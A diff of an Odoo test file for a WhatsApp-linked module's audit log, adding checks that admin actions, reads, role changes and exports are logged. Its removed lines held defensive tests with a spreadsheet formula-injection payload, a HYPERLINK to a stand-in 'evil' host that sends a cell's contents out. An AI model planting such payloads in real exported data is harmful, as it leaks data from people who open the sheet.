@@ -1,14 +1,47 @@
 """The audit log: every act that matters is one row, and nobody changes a row."""
 
-import io
-import zipfile
-
-import xlsxwriter
-
 from odoo.exceptions import AccessError, UserError
 from odoo.tests import tagged
 
 from .common import WacCase
+from .rights_table import METHODS
+
+#: Acts of administrators that leave a row of their own in the log.
+NOTED = {
+    "wac.account.action_allow_sending",
+    "wac.account.action_register",
+    "wac.account.action_release",
+    "wac.account.action_show_pin",
+    "wac.account.action_subscribe",
+    "wac.account.to.api.action_register",
+    "wac.app.action_new_verify_token",
+    "wac.app.action_show_verify_token",
+    "wac.dead.letter.action_dismiss",
+    "wac.dead.letter.action_replay",
+    "wac.privacy.request.action_download",
+    "wac.retention.action_save",
+    "wac.webhook.event.action_replay",
+}
+#: Those that leave none, and why.
+NOT_NOTED = {
+    "wac.account.action_check_connection": "asks Meta, changes nothing",
+    "wac.account.action_health_connect": "opens a window",
+    "wac.account.action_move_to_api": "opens a window",
+    "wac.account.to.api.action_ask_meta": "asks Meta; new ids are a change of the number",
+    "wac.account.to.api.action_begin": "turns a page",
+    "wac.app.action_connect_api": "opens a window",
+    "wac.app.action_connect_phone": "opens a window",
+    "wac.app.action_connect_token": "opens a window",
+    "wac.connect.action_connect": "the new number and its secret are noted",
+    "wac.connect.action_find": "asks Meta, changes nothing",
+    "wac.retention.action_record": "prints settings",
+    "wac.signup.finish": "the new number and its secret are noted",
+    "wac.signup.start": "opens a window",
+    **dict.fromkeys(
+        (f"wac.setup.{method}" for method in METHODS["wac.setup"]["admin"].split()),
+        "a guide: what it does is done by, and noted of, the number",
+    ),
+}
 
 
 @tagged("post_install", "-at_install")
@@ -93,30 +126,105 @@ class TestWacAudit(WacCase):
         self.assertEqual(self.rows("read").user_id, self.manager | self.agent)
         self.assertEqual(len(self.rows("read")), 2)
 
-    def test_exports_are_noted_and_hold_no_formula(self):
-        thread = self.make_thread()
-        thread.contact_id.profile_name = '=HYPERLINK("http://evil/?x="&A2,"click")'
-        contact = thread.contact_id.with_user(self.manager)
-        data = contact.export_data(["name", "profile_name", "wa_id"])["datas"][0]
-        self.assertTrue(data[1].startswith("'="))
-        self.assertEqual(data[2], thread.contact_id.wa_id)
+    def test_exports_are_noted(self):
+        contact = self.make_thread().contact_id.with_user(self.manager)
+        contact.export_data(["name", "profile_name", "wa_id"])
         row = self.rows("export")
         self.assertEqual((row.user_id, row.res_ids), (self.manager, contact.ids))
+        self.assertEqual(row.detail, "name, profile_name, wa_id")
 
-    def test_a_spreadsheet_holds_no_formula(self):
-        """Odoo's own writer makes a live formula of any text that begins with ``=``."""
+    def test_lists_forms_and_programs_that_read_texts_are_noted(self):
+        message = self.queue(self.make_thread())
+        theirs = message.with_user(self.manager)
+        for read in (
+            lambda: theirs.read(["body"]),
+            lambda: theirs.web_read({"content": {}}),
+            lambda: theirs.search_read([("id", "=", message.id)], ["previous_body"]),
+            lambda: theirs.web_search_read([("id", "=", message.id)], {"body": {}}),
+        ):
+            with self.subTest(), self.env.cr.savepoint() as savepoint:
+                theirs.read(["state"])
+                self.assertFalse(self.rows("read"), "no text was read")
+                read()
+                self.assertEqual(self.rows("read").user_id, self.manager)
+                savepoint.rollback()
+                self.env.invalidate_all(flush=False)
+        message.with_user(self.agent).read(["body"])
+        self.assertFalse(self.rows("read"), "the agent's own chat")
+
+    def test_texts_read_past_the_chat_are_noted(self):
         thread = self.make_thread()
-        thread.contact_id.username = "=1+1"
-        message = self.queue(thread, body="@SUM(1)\t")
-        fields = ["contact_id/username", "body"]
-        rows = message.with_user(self.manager).export_data(fields)["datas"]
-        output = io.BytesIO()
-        with xlsxwriter.Workbook(output, {"in_memory": True}) as book:
-            book.add_worksheet().write_row(0, 0, rows[0])
-        archive = zipfile.ZipFile(output)
-        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
-        self.assertNotIn("<f>", sheet)
-        self.assertNotIn("<hyperlink", sheet)
-        texts = archive.read("xl/sharedStrings.xml").decode()
-        self.assertIn("'=1+1", texts)
-        self.assertIn("'@SUM", texts)
+        thread.channel_id = thread._wac_new_channels(self.account, thread.contact_id)
+        message = self.queue(thread)
+        message._wac_show()
+        shown = message.mail_message_id.with_user(self.manager)
+        shown.search_read([("id", "=", shown.id)], ["body"])
+        self.assertEqual(self.rows("read").res_ids, thread.ids)
+
+    def test_roles(self):
+        manager = self.env.ref("whatsapp_coexistence.group_wac_manager")
+        self.nobody.group_ids |= manager
+        rows = self.rows("roles")
+        self.assertEqual(set(rows.mapped("detail")), {"agent: given", "manager: given"})
+        self.assertEqual(rows[0].res_ids, self.nobody.ids)
+        manager.user_ids -= self.nobody
+        taken = self.rows("roles") - rows
+        self.assertEqual(
+            set(taken.mapped("detail")), {"agent: taken", "manager: taken"}
+        )
+
+    def test_what_is_noted_of_acts(self):
+        admin = self.admin
+        self.account.pin = "123456"
+        letter = self.env["wac.dead.letter"].create(
+            {
+                "reason": "x",
+                "path": "entry[0]",
+                "event_id": self.env["wac.webhook.event"]
+                .create({"app_id": self.app.id, "body": b"e30=", "state": "dead"})
+                .id,
+            }
+        )
+        robinson = self.env["wac.exclusion.list"].with_user(admin).create({"name": "R"})
+        for record, method, action in (
+            (self.account, "action_show_pin", "secret"),
+            (self.account, "action_release", "number"),
+            (self.account, "action_allow_sending", "number"),
+            (self.account, "action_subscribe", "number"),
+            (self.app, "action_show_verify_token", "secret"),
+            (self.app, "action_new_verify_token", "secret"),
+            (letter, "action_dismiss", "replay"),
+            (letter, "action_replay", "replay"),
+            (letter.event_id, "action_replay", "replay"),
+            (robinson, "unlink", "consent"),
+        ):
+            with self.subTest(method=f"{record._name}.{method}"):
+                self.env.flush_all()
+                self.known = self.env["wac.audit"].search([])
+                ids = record.ids
+                getattr(record.with_user(admin), method)()
+                rows = self.rows(action)
+                self.assertTrue(rows)
+                self.assertEqual((rows[0].user_id, rows[0].res_ids), (admin, ids))
+
+    def test_every_act_is_noted_or_has_a_reason(self):
+        """A button of administrators made tomorrow does not go by in silence."""
+        acts = {
+            f"{model}.{method.rstrip('*')}"
+            for model, levels in METHODS.items()
+            for level, methods in levels.items()
+            if level.rstrip("*") in ("admin", "asker")
+            for method in methods.split()
+        }
+        self.assertEqual(acts, NOTED | set(NOT_NOTED))
+        self.assertFalse(NOTED & set(NOT_NOTED))
+
+    def test_an_exclusion_list_that_grows(self):
+        robinson = self.env["wac.exclusion.list"].create({"name": "R"})
+        self.known = self.env["wac.audit"].search([])
+        robinson.with_user(self.manager)._wac_add(["34600111222"])
+        self.assertEqual(self.rows("consent").detail, "1 numbers added")
+
+    def test_who_decides_what_counts_as_consent(self):
+        self.company.wac_similar_products = True
+        self.assertEqual(self.rows("consent").res_model, "res.company")
